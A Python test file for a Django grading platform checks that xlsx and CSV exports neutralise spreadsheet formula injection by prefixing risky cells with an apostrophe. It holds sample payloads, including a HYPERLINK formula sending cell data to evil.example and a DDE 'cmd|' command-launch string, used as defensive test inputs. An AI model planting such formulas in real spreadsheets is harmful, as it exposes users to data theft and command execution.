"""Spreadsheet formula injection (issue 8, defect 4): text a spreadsheet would run as a formula is written as text in
every xlsx and CSV the platform produces."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook
from tests.platform.disclosure.test_disclosure import _graded

from airgrade.io.excel.cells import neutralise_cell
from airgrade.platform.disclosure import services as disclosure
from airgrade.platform.enterprises.models import Enterprise
from airgrade.platform.grades.models import GradeRecord

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("本县企业", "本县企业"),
        ("a=b", "a=b"),
        ("-3.5", "-3.5"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (Decimal("-1.25"), Decimal("-1.25")),
        (None, None),
        (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
    ],
)
def test_neutralise_cell(value: Any, expected: Any) -> None:
    assert neutralise_cell(value) == expected


def _rename(enterprise: Any, name: str) -> None:
    # Straight to the table: the point is what the writers do with whatever name is stored.
    Enterprise.objects.filter(pk=enterprise.pk).update(name=name)


@pytest.mark.django_db
def test_improvement_list_workbook_writes_a_hostile_name_as_text(users: dict[str, Any]) -> None:
    enterprise = users["own_enterprise"]
    site = enterprise.sites.get()
    GradeRecord.objects.create(
        enterprise=enterprise, site=site, region_id=site.region_id, industry_code="cement", grade="C",
        valid_from=dt.date(2020, 1, 1), source=GradeRecord.Source.CAMPAIGN,
    )  # fmt: skip
    _rename(enterprise, HOSTILE)
    client = Client()
    client.force_login(users["county"])
    response = client.get("/grades/improvement-list.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet["D4"]
    assert cell.data_type == "s"  # not "f": no formula in the file
    assert cell.value == "'" + HOSTILE
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.django_db
def test_open_data_csv_writes_a_hostile_name_as_text(users: dict[str, Any]) -> None:
    _graded(users)
    _rename(users["own_enterprise"], HOSTILE)
    response = Client().get("/api/public/grades.csv")
    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0]["enterprise"] == "'" + HOSTILE
    assert not any(value.startswith(("=", "+", "-", "@")) for row in table for value in row.values())


def test_monthly_report_csv_neutralises_every_cell() -> None:
    text = disclosure.monthly_report_csv([{"city": "410100", "city_name": "@evil", "industry": "=1+1", "applied": 3}])
    row = next(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    assert (row["city_name"], row["industry"], row["applied"]) == ("'@evil", "'=1+1", "3")
